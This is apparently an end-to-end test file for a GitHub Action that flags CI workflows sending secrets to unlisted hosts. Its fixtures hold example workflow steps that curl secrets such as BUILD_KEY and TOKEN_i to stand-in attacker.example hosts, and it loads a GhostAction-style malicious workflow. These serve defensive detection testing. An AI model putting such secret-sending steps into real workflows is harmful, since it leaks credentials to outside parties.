/**
 * The in-job behaviour end to end: the bundled action under Node 24 through the runner harness, with a loopback
 * server standing in for the GitHub REST API (reached by the real Octokit client through GITHUB_API_URL).
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { ActionRun } from '../harness/runner.js';
import { runAction } from '../harness/runner.js';
import { FakeGitHub } from '../support/fake-github.js';
import { requireDist } from './dist.js';

const WF = '.github/workflows/ci.yml';
const SHA = 'a'.repeat(40);

function steps(n: number): string {
  return Array.from(
    { length: n },
    (_, i) =>
      `      - name: send ${i}\n        run: curl -s -d "\${{ secrets.TOKEN_${i} }}" https://collector-${i}.attacker.example/`,
  ).join('\n');
}

const MATRIX = `on: push
jobs:
  build:
    runs-on: \${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, ubuntu-22.04]
        node: [20, 22]
    steps:
      - uses: actions/checkout@v4
      - name: Report
        run: |
          curl -s -H "X-Key: \${{ secrets.BUILD_KEY }}" https://stats.attacker.example/\${{ matrix.node }}
`;

const WARN_ONLY = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: Deploy
        run: |
          curl -s -H "Authorization: Bearer \${{ secrets.DEPLOY }}" "$TARGET_URL"
`;

function errors(r: ActionRun) {
  return r.annotations.filter((a) => a.level === 'error');
}

describe('in the job, end to end', () => {
  let gh: FakeGitHub;
  before(async () => {
    requireDist();
    gh = await FakeGitHub.start();
  });
  after(() => gh?.close());

  it('a matrix job is one job: each finding once, pointing at its line', async () => {
    const r = await runAction({ files: { [WF]: MATRIX }, job: 'build', steps: 'main' });
    assert.equal(r.exitCode, 1, r.stdout);
    const hits = errors(r).filter((a) => a.title?.includes('secret-to-unlisted-host'));
    assert.equal(hits.length, 1, JSON.stringify(r.annotations));
    assert.equal(hits[0]?.line, 13);
    assert.match(hits[0]?.message ?? '', /BUILD_KEY is sent to stats\.attacker\.example by curl/);
  });

  it('reads the workflow through the API at its commit when the workspace does not have it', async () => {
    gh.addRepo('acme/app', { commits: { [SHA]: { [WF]: MATRIX } }, branches: { main: SHA } });
    const r = await runAction({
      repository: 'acme/app',
      sha: SHA,
      job: 'build',
      steps: 'main',
      apiUrl: gh.url,
      inputs: { token: 'test-token' },
    });
    assert.equal(r.exitCode, 1, r.stdout);
    assert.ok(
      errors(r).some((a) => a.message.includes('BUILD_KEY')),
      JSON.stringify(r.annotations),
    );
    assert.ok(
      gh.log.some((q) => q.path.includes(`/repos/acme/app/contents/.github/workflows/ci.yml?ref=${SHA}`)),
    );
  });

  it('reads the workflow through an HTTPS_PROXY when one is set', async () => {
    // A CONNECT proxy on loopback that sends every tunnel to the API stand-in: the API's name is never resolved,
    // so the request can only have gone through the proxy.
    const tunnels: string[] = [];
    const apiPort = Number(new URL(gh.url).port);
    const proxy = createServer((client) => {
      client.once('data', (head: Buffer) => {
        const target = /^CONNECT (\S+) /.exec(head.toString('latin1'))?.[1];
        if (!target) return client.destroy();
        tunnels.push(target);
        const upstream = connect(apiPort, '127.0.0.1', () => {
          client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
          client.pipe(upstream).pipe(client);
        });
        upstream.on('error', () => client.destroy());
        client.on('error', () => upstream.destroy());
      });
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    try {
      const port = (proxy.address() as AddressInfo).port;
      gh.addRepo('acme/proxied', { commits: { [SHA]: { [WF]: MATRIX } }, branches: { main: SHA } });
      const r = await runAction({
        repository: 'acme/proxied',
        sha: SHA,
        job: 'build',
        steps: 'main',
        apiUrl: 'http://api.github.test',
        inputs: { token: 'test-token', 'fail-on': 'never' },
        env: { HTTPS_PROXY: `http://127.0.0.1:${port}`, HTTP_PROXY: `http://127.0.0.1:${port}` },
      });
      assert.equal(r.exitCode, 0, r.stdout + r.stderr);
      assert.deepEqual([...new Set(tunnels)], ['api.github.test:80']);
      assert.ok(
        errors(r).some((a) => a.message.includes('BUILD_KEY')),
        JSON.stringify(r.annotations),
      );
    } finally {
      await new Promise((resolve) => proxy.close(resolve));
    }
  });

  it('403 and 404 from the API each fail in one line that names the fix', async () => {
    gh.addRepo('acme/locked', { forbidden: true, commits: { [SHA]: { [WF]: MATRIX } } });
    gh.addRepo('acme/hidden', { readable: false, commits: { [SHA]: { [WF]: MATRIX } } });
    const forbidden = await runAction({
      repository: 'acme/locked',
      sha: SHA,
      job: 'build',
      steps: 'main',
      apiUrl: gh.url,
      inputs: { token: 't' },
    });
    assert.equal(forbidden.exitCode, 1);
    assert.equal(errors(forbidden).length, 1, JSON.stringify(forbidden.annotations));
    assert.match(errors(forbidden)[0]?.message ?? '', /contents: read/);
    const hidden = await runAction({
      repository: 'acme/hidden',
      sha: SHA,
      job: 'build',
      steps: 'main',
      apiUrl: gh.url,
      inputs: { token: 't' },
    });
    assert.equal(hidden.exitCode, 1);
    assert.equal(errors(hidden).length, 1, JSON.stringify(hidden.annotations));
    assert.match(errors(hidden)[0]?.message ?? '', /token/);
    for (const r of [forbidden, hidden]) assert.doesNotMatch(r.stdout + r.stderr, /\n\s+at /);
  });

  it('a push that adds the running workflow, in a job that holds secrets, is the GhostAction shape', async () => {
    const event = (sha: string) => ({
      after: sha,
      head_commit: { id: sha, added: [WF], modified: [] },
      commits: [{ id: sha, added: [WF], modified: [], removed: [] }],
      repository: { full_name: 'octo-org/octo-repo' },
    });
    const r = await runAction({
      files: { [WF]: MATRIX },
      job: 'build',
      steps: 'main',
      eventName: 'push',
      event,
    });
    assert.ok(
      errors(r).some((a) => a.title?.includes('workflow-added-by-this-push')),
      JSON.stringify(r.annotations.map((a) => a.title)),
    );
  });

  it('keeps to GitHub annotation limits and says how many more are in the summary', async () => {
    const wf = `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps(30)}\n`;
    const r = await runAction({ files: { [WF]: wf }, job: 'build', steps: 'main' });
    assert.equal(r.exitCode, 1);
    const titled = r.annotations.filter((a) => a.level === 'error' && a.title !== undefined);
    assert.equal(titled.length, 10);
    assert.ok(
      r.annotations.some((a) => a.level === 'notice' && /more findings in the job summary/.test(a.message)),
    );
    assert.match(r.summary, /collector-29\.attacker\.example/);
  });

  it('a workflow that cannot be analysed fails the step in one line, even with fail-on: never', async () => {
    const broken =
      'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H "A: b" x\n';
    for (const failOn of ['error', 'never']) {
      const r = await runAction({
        files: { [WF]: broken },
        job: 'build',
        steps: 'main',
        inputs: { 'fail-on': failOn },
      });
      assert.equal(r.exitCode, 1, r.stdout);
      const e = errors(r);
      assert.ok(
        e.some((a) => /ci\.yml:6: invalid YAML/.test(a.message)),
        JSON.stringify(r.annotations),
      );
    }
  });

  it('scope: changed fails a pull request that adds a GhostAction workflow, and ignores the policy it brings', async () => {
    const ghost = readFileSync(new URL('../fixtures/malicious/ghostaction.yml', import.meta.url), 'utf8');
    // The pull request also adds a policy file that allows the attacker's host: it must not count.
    const selfAllow =
      'version: 1\nallowed-endpoints: ["*.plesk.page", "bold-dhawan.45-139-104-115.plesk.page"]\n';
    const BASE = 'b'.repeat(40);
    const HEAD = 'c'.repeat(40);
    gh.addRepo('acme/pr', {
      commits: {
        [BASE]: { 'README.md': 'hello\n' },
        [HEAD]: {
          'README.md': 'hello\n',
          '.github/workflows/security.yml': ghost,
          '.github/exfil-guard.yml': selfAllow,
        },
      },
      branches: { main: BASE, feature: HEAD },
    });
    const event = {
      pull_request: {
        base: { sha: BASE, repo: { full_name: 'acme/pr' } },
        head: { sha: HEAD, repo: { full_name: 'acme/pr' } },
      },
      repository: { full_name: 'acme/pr', default_branch: 'main' },
    };
    const r = await runAction({
      repository: 'acme/pr',
      sha: HEAD,
      eventName: 'pull_request',
      event,
      steps: 'main',
      apiUrl: gh.url,
      files: { '.github/exfil-guard.yml': selfAllow },
      inputs: { scope: 'changed', token: 't' },
    });
    assert.equal(r.exitCode, 1, r.stdout);
    assert.ok(
      errors(r).some((a) => a.message.includes('PYPI_API_TOKEN') && a.message.includes('plesk.page')),
      JSON.stringify(r.annotations),
    );
    assert.ok(gh.log.some((q) => q.path.includes(`/contents/.github/exfil-guard.yml?ref=${BASE}`)));
  });

  it('fail-on decides the exit code at each level', async () => {
    const run = (failOn: string) =>
      runAction({ files: { [WF]: WARN_ONLY }, job: 'build', steps: 'main', inputs: { 'fail-on': failOn } });
    const [atWarning, atError, never] = await Promise.all([run('warning'), run('error'), run('never')]);
    assert.equal(atWarning.outputs.verdict, 'warning');
    assert.equal(atWarning.exitCode, 1);
    assert.equal(atError.exitCode, 0);
    assert.equal(never.exitCode, 0);
    const report = JSON.parse(readFileSync(atError.outputs['report-file'] ?? '', 'utf8')) as {
      findings: { rule: string }[];
    };
    assert.ok(report.findings.some((f) => f.rule === 'secret-to-unknown-destination'));
  });
});
